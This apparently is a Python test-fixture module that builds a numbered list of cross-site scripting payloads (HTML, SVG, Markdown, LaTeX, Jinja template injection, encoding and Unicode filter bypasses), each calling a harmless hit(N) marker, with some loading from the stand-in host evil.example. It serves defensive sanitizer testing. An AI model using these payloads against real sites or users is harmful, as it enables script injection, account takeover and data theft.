"""What somebody writes who wants a browser to run it: HTML, SVG, Markdown, LaTeX, the templates of folium and Jinja.

Each asks for `hit(N)` (¤ below) with its number, which the tests' own page provides and reports.
"""

from __future__ import annotations

from collections.abc import Iterator

_TEMPLATES = """
<script>¤</script>
<SCRIPT>¤</SCRIPT>
<script>¤//
<script/x>¤</script>
<script src="data:,¤"></script>
<script src=//evil.example/¤></script>
<scr<script>ipt>¤</scr</script>ipt>
</script><script>¤</script>
</SCRIPT ><svg onload=¤>
</style><script>¤</script>
</title><script>¤</script>
</textarea><script>¤</script>
</noscript><img src=x onerror=¤>
</template><img src=x onerror=¤>
--><script>¤</script>
]]><script>¤</script>
<!--<img src="--><img src=x onerror=¤>
<img src=x onerror=¤>
<img src=x onerror='¤'>
<img src=x onerror="¤">
<img/src=x/onerror=¤>
<IMG SRC=x OnErRoR=¤>
<img src="x" onerror="¤" style="display:none">
<img src=/photos/1 onload=¤ onerror=¤>
<img src='javascript:¤'>
"><img src=x onerror=¤>
'><img src=x onerror=¤>
"><script>¤</script>
' onmouseover='¤' x='
" onfocus="¤" autofocus x="
" autofocus onfocus=¤ tabindex=1 x="
x" onerror="¤
<svg onload=¤>
<svg/onload=¤>
<svg><script>¤</script></svg>
<svg><script href="data:,¤"/></svg>
<svg><animate onbegin=¤ attributeName=x dur=1s>
<svg><set onbegin=¤ attributename=x>
<svg><a xlink:href="javascript:¤"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='¤'/>#x"/></svg>
<svg><foreignObject><img src=x onerror=¤></foreignObject></svg>
<svg><style><img src=x onerror=¤></style></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=¤>
<math href="javascript:¤">x</math>
<math><maction xlink:href="javascript:¤">x</maction></math>
<iframe src="javascript:¤"></iframe>
<iframe srcdoc="<script>parent.¤</script>"></iframe>
<iframe srcdoc="<img src=x onerror=parent.¤>"></iframe>
<iframe onload=¤></iframe>
<object data="javascript:¤"></object>
<object data="data:text/html,<script>parent.¤</script>"></object>
<embed src="javascript:¤">
<embed src="data:image/svg+xml,<svg onload='¤'/>">
<applet code=¤></applet>
<body onload=¤>
<body onpageshow=¤>
<html onmouseover=¤>
<frameset onload=¤>
<input autofocus onfocus=¤>
<select autofocus onfocus=¤>
<textarea autofocus onfocus=¤>
<button autofocus onfocus=¤>x</button>
<keygen autofocus onfocus=¤>
<details open ontoggle=¤>
<audio src=x onerror=¤>
<video src=x onerror=¤>
<video><source onerror=¤></video>
<video poster=javascript:¤></video>
<marquee onstart=¤>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:¤">
<meta http-equiv="Content-Security-Policy" content="script-src *">¤
<base href="javascript:¤//">
<base href=//evil.example/¤>
<link rel=stylesheet href="javascript:¤">
<link rel=import href="data:text/html,<script>¤</script>">
<style>@import "javascript:¤";</style>
<style>*{background:url("javascript:¤")}</style>
<style onload=¤></style>
<div style="background:url(javascript:¤)">x</div>
<div style="width:expression(¤)">x</div>
<div onpointerenter=¤ style="position:fixed;inset:0">x</div>
<form action="javascript:¤"><button>x</button></form>
<form><button formaction="javascript:¤">x</button></form>
<isindex action="javascript:¤" type=image>
<a href="javascript:¤">x</a>
<a href="JaVaScRiPt:¤">x</a>
<a href="java&#10;script:¤">x</a>
<a href="&#106;avascript:¤">x</a>
<a href="&#x6A;avascript:¤">x</a>
<a href="javascript&colon;¤">x</a>
<a href=" javascript:¤">x</a>
<a href="data:text/html,<script>opener.¤</script>" target=_blank>x</a>
<a href="vbscript:¤">x</a>
<a href="//evil.example/¤" ping="//evil.example/ping">x</a>
<x onclick=¤ onmouseover=¤ contenteditable autofocus onfocus=¤ tabindex=0>x</x>
<dialog open onclose=¤>x</dialog>
<slot onslotchange=¤><b>x</b></slot>
<template><script>¤</script></template>
<noscript><p title="</noscript><img src=x onerror=¤>">
<plaintext onmouseover=¤>
<xmp><img src=x onerror=¤></xmp>
<custom-element onanimationstart=¤ style="animation:x">
&lt;script&gt;¤&lt;/script&gt;
&#60;script&#62;¤&#60;/script&#62;
%3Cscript%3E¤%3C/script%3E
\\u003cscript\\u003e¤\\u003c/script\\u003e
\\x3cscript\\x3e¤\\x3c/script\\x3e
＜script＞¤＜/script＞
${¤}
`${¤}`
`;¤;//
`+¤+`
${`${¤}`}
\\`;¤;//
';¤;//
";¤;//
'-¤-'
"-¤-"
\\';¤;//
\\";¤;//
");¤;//
'});¤;//
"}];¤;//
*/¤/*
\u2028¤;//
{{¤}}
{{constructor.constructor('¤')()}}
{% raw %}{{ ¤ }}{% endraw %}
{{ ''.__class__.__mro__ }}¤
{%- for x in ().__class__.__base__.__subclasses__() -%}¤{%- endfor -%}
{{ self.__init__.__globals__ }}¤
<%= ¤ %>
#{¤}
[[¤]]
$(¤)
[x](javascript:¤)
[x](JAVASCRIPT:¤)
[x]( javascript:¤)
[x](java&#115;cript:¤)
[x](data:text/html;base64,PHNjcmlwdD4=) ¤
[x](<javascript:¤>)
[x][1] ¤ [1]: javascript:¤
![x](javascript:¤)
![x](x"onerror="¤)
![x](//evil.example/¤.png)
![x](https://evil.example/¤.png "x")
<javascript:¤>
**<img src=x onerror=¤>**
`<img src=x onerror=¤>`
```html <script>¤</script> ```
# <script>¤</script>
> <img src=x onerror=¤>
| x | <img src=x onerror=¤> |
- [ ] <img src=x onerror=¤>
1. <img src=x onerror=¤>
:material/home: ¤ :smile: :red[<img src=x onerror=¤>]
:blue-background[¤] :streamlit: <svg onload=¤>
:red[¤]{onclick=¤}
$\\href{javascript:¤}{x}$
$$\\url{javascript:¤}$$
$\\htmlData{x=¤}{x}$ $\\htmlStyle{background:url(javascript:¤)}{x}$
$\\includegraphics{//evil.example/¤.png}$
\\(\\href{javascript:¤}{x}\\)
\\[\\unicode{<img src=x onerror=¤>}\\]
\u202e<script>¤</script>\u202c
\u200f<img src=x onerror=¤>\u200e
\u2066<svg onload=¤>\u2069
\ufeff<script>¤</script>
<\u200bscript>¤</script>
<s\u0000cript>¤</script>
=HYPERLINK("javascript:¤";"x")
javascript:¤
javascript://%0a¤
jAvAsCrIpT&Tab;:¤
data:text/html,<script>¤</script>
feed:javascript:¤
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="¤"/>
<!DOCTYPE x [<!ENTITY y "<script>¤</script>">]>&y;
__proto__ constructor prototype ¤
"}</script><script>¤</script>
{"__html":"<img src=x onerror=¤>"}
"""

PAYLOADS: list[str] = [
    template.replace("¤", f"hit({number})")
    for number, template in enumerate(line for line in _TEMPLATES.split("\n") if line)
]


def lines(longest: int) -> Iterator[str]:
    """All payloads, as many on a line as fit in so many characters."""
    line = ""
    for payload in PAYLOADS:
        if line and len(line) + 1 + len(payload) > longest:
            yield line
            line = ""
        line = f"{line} {payload}".strip()
    yield line
